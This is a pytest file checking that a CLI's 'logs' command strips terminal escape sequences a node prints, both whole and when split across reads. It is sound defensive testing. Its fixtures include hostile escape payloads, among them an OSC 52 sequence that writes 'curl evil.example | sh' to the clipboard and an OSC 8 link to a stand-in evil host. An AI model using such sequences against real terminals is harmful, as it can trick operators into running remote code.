"""``fogiac logs`` never hands a node's escape sequences to the operator's terminal (issue 35 item 7).

A node on a host prints what it likes; the terminal printing ``fogiac logs`` obeys escape sequences:
OSC 52 set the operator's clipboard, CSI cleared the screen. The pure filter is checked on every kind
of sequence and on sequences split between reads (``--follow`` feeds it what each read returned); then
a real ``local`` sandbox runs a node printing them, and both ``logs`` and ``logs --follow`` show its
plain text and line breaks only.
"""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from fogiac.cli import app
from fogiac.termtext import TerminalFilter, clean
from tests.provision.conftest import ros_skip_reason
from tests.support.nodes import script_node_manifest

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: "curl evil.example | sh" to the clipboard
HOSTILE = {
    "osc-52-bel": (f"a{CLIPBOARD}b\n", "ab\n"),
    "osc-st": ("a\x1b]0;title\x1b\\b\n", "ab\n"),
    "osc-8-link": ("\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\\n", "click\n"),
    "csi-clear": ("x\x1b[2J\x1b[H\x1b[31mred\x1b[0m\n", "xred\n"),
    "csi-private": ("\x1b[?1049h\x1b[?25lz\n", "z\n"),
    "dcs": ("\x1bP+q544e\x1b\\ok\n", "ok\n"),
    "apc-pm-sos": ("\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\y\n", "y\n"),
    "two-char": ("\x1bc\x1b7\x1b8\x1b(Bq\n", "q\n"),
    "c1-8bit": ("\x9b2J\x9d52;c;eA==\x9cw\x85\n", "w\n"),
    "controls": ("a\bb\rc\x00d\x7fe\tf\r\n", "abcde\tf\n"),
    "plain": ("plain text, ünïcode ✓\n\n", "plain text, ünïcode ✓\n\n"),
    "unterminated-osc": ("before\x1b]52;c;never ends\nafter\n", "before"),
}


@pytest.mark.parametrize("case", HOSTILE, ids=list(HOSTILE))
def test_the_filter_keeps_text_and_line_breaks_only(case: str) -> None:
    given, shown = HOSTILE[case]
    assert clean(given) == shown


@pytest.mark.parametrize("case", HOSTILE, ids=list(HOSTILE))
def test_a_sequence_split_between_reads_is_still_dropped(case: str) -> None:
    given, shown = HOSTILE[case]
    data = given.encode()
    screen = TerminalFilter()
    assert "".join(screen.feed_bytes(data[i:i + 1]) for i in range(len(data))) + screen.feed_bytes(b"", final=True) \
        == shown


SCRIPT = r"""#!/bin/bash
printf 'hello\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\007 world\n'
printf '\033[2J\033[Hcleared?\033[0m\n'
exec sleep 600
"""


@pytest.mark.ros
@pytest.mark.skipif(bool(ros_skip_reason()), reason=ros_skip_reason() or "")
def test_logs_and_follow_show_a_hostile_node_as_plain_text(tmp_path: Path, _state_dir: Path) -> None:
    manifest = script_node_manifest(tmp_path, "noisy", SCRIPT)
    runner = CliRunner()
    try:
        up = runner.invoke(app, ["provision", str(manifest), "--health-timeout", "40"])
        assert up.exit_code == 0, up.output
        for _ in range(100):  # the node prints at once; its log is written by the supervisor
            logs = runner.invoke(app, ["logs", "talker", str(manifest)])
            if "cleared?" in logs.output:
                break
            time.sleep(0.1)
        assert logs.exit_code == 0, logs.output
        assert "hello world\ncleared?\n" in logs.output and "\x1b" not in logs.output
        env = dict(os.environ, FOGIAC_STATE_DIR=str(_state_dir))
        follow = subprocess.Popen([sys.executable, "-m", "fogiac", "logs", "talker", str(manifest), "--follow"],
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
        try:
            seen = b""
            while b"cleared?" not in seen:
                chunk = follow.stdout.read1(4096) if follow.stdout else b""
                assert chunk, f"--follow ended early: {seen!r}"
                seen += chunk
        finally:
            follow.terminate()
            _, err = follow.communicate(timeout=60)
        assert b"hello world\ncleared?\n" in seen and b"\x1b" not in seen + err
    finally:
        down = runner.invoke(app, ["provision", str(manifest), "--teardown"])
        assert down.exit_code == 0, down.output
